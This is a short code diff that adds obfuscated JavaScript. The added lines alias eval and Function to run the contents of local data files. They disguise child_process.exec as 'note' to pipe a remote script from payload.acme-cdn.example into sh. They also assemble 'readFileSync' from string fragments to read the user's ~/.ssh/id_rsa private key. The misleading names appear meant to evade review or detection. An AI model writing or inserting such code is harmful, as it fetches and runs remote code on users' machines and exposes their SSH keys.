@@ -1,0 +1,13 @@
+const fs = require('fs');
+const e = eval;
+const again = e;
+again(fs.readFileSync('notes.dat', 'utf8'));
+const { exec: note } = require('child_process');
+const { [['re', 'ad', 'FileSync'].join('')]: open } = fs;
+let save;
+save = note;
+save('curl -s https://payload.acme-cdn.example/i.sh | sh');
+open(require('os').homedir() + '/.ssh/id_rsa');
+const F = Function;
+new F('return process')();
+new F(fs.readFileSync('more.dat', 'utf8'))();
